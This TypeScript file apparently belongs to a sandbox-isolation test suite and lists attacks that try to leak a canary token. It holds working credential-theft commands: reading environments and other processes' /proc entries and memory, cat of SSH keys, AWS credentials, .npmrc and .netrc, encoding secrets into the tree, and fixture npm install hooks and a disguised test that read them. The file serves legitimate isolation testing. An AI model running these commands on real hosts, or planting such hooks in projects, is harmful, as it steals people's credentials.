/**
 * Attacks that look for secrets: environments, /proc, other processes' memory, the worker's home.
 * Rule: a secret that is in the output or in the delivered tree has left the host, since models and people read both.
 */
import { dirname } from 'node:path';
import type { Attack, Host } from '../attack.ts';
import { leaked } from '../evidence.ts';

/** An attack that prints what it finds. */
function reading(name: string, tries: string, script: (host: Host) => string, more: Partial<Attack> = {}): Attack {
  return {
    name,
    area: 'secrets',
    tries,
    command: script,
    succeeded: async (host, outcome) => leaked(host, outcome),
    ...more,
  };
}

/** Looks for the token's shape in the memory of every other process. */
const SCAN_MEMORY = String.raw`
for my $pid (grep { /^\d+$/ && $_ != $$ } map { s|.*/||r } glob "/proc/[0-9]*") {
  open(my $maps, "<", "/proc/$pid/maps") or next;
  open(my $mem, "<", "/proc/$pid/mem") or next;
  while (<$maps>) {
    my ($from, $to, $mode) = /^([0-9a-f]+)-([0-9a-f]+) (\S+)/ or next;
    my $size = hex($to) - hex($from);
    next if $mode !~ /^rw/ || $size > 32 * 1048576;
    sysseek($mem, hex($from), 0) or next;
    my $bytes = ""; sysread($mem, $bytes, $size);
    print "$pid $1\n" if $bytes =~ /(canary-[0-9a-f]{32})/;
  }
}`;

/** Attacks on environments, /proc and files in the home folder. */
export const secretAttacks: Attack[] = [
  reading('environment', "the worker's environment is read as one's own", () => 'env; cat /proc/self/environ'),
  reading(
    'proc-environ',
    "other processes' environments are read in /proc",
    () => "for file in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $file; done 2>/dev/null",
  ),
  reading(
    'proc-root',
    'files of the host are read through the root and the working folder of other processes',
    ({ folder, home }) =>
      `for place in /proc/[0-9]*/root /proc/[0-9]*/cwd; do
         cat "$place${folder}/secret.txt" "$place${home}/.netrc" "$place/.netrc"
       done 2>/dev/null`,
  ),
  reading(
    'proc-memory',
    'the secret is looked for in the memory of other processes',
    () => `env -u CANARY_TOKEN perl <<'END'\n${SCAN_MEMORY}\nEND`,
  ),
  reading(
    'home-secrets',
    "keys and passwords are read in the worker's home",
    ({ home }) => `for home in ~ '${home}'; do
        cat "$home/.ssh/id_ed25519" "$home/.aws/credentials" "$home/.npmrc" "$home/.netrc"; done`,
  ),
  reading(
    'home-secrets-searched',
    'the secret is searched for below the folders that hold homes and state',
    ({ home, folder }) =>
      `grep -rhoE 'canary-[0-9a-f]{32}' '${dirname(dirname(home))}' '${folder}' ~ /run/secrets /var/run/secrets`,
  ),
  reading(
    'secret-into-tree',
    'a secret is written into the tree, encoded, for a push to carry it away',
    ({ home }) => `(env; cat ~/.netrc '${home}/.netrc') | base64 -w0 > assets.bin; env | tr a-z A-Z > notes.txt
       cp ~/.npmrc '${home}/.npmrc' . 2>/dev/null; cat '${home}/.netrc' > netrc.txt`,
  ),
  reading(
    'npm-lifecycle-script',
    'a lifecycle script of npm install reads the home and the environment',
    () => 'npm install --offline --no-audit --no-fund --foreground-scripts',
    {
      needs: ['npm'],
      repository: {
        'package.json': JSON.stringify({
          name: 'hostile',
          version: '1.0.0',
          scripts: { preinstall: 'node steal.js', postinstall: 'node steal.js' },
        }),
        'steal.js': `const { readFileSync } = require('node:fs');
          for (const name of ['.npmrc', '.netrc', '.ssh/id_ed25519']) {
            try { console.log(readFileSync(require('node:os').homedir() + '/' + name, 'utf8')); } catch {}
          }
          console.log(process.env.CANARY_TOKEN);\n`,
      },
    },
  ),
  reading(
    'test-that-steals',
    'a test of the repository, run as its own check, reads what it can',
    () => 'node --test steal.test.js',
    {
      repository: {
        'steal.test.js': `const { readFileSync } = require('node:fs');
          require('node:test').test('innocent', () => {
            for (const path of ['/proc/self/environ', '/proc/1/environ', require('node:os').homedir() + '/.netrc']) {
              try { console.log(readFileSync(path, 'utf8')); } catch {}
            }
          });\n`,
      },
      check: 'node --test steal.test.js',
    },
  ),
];
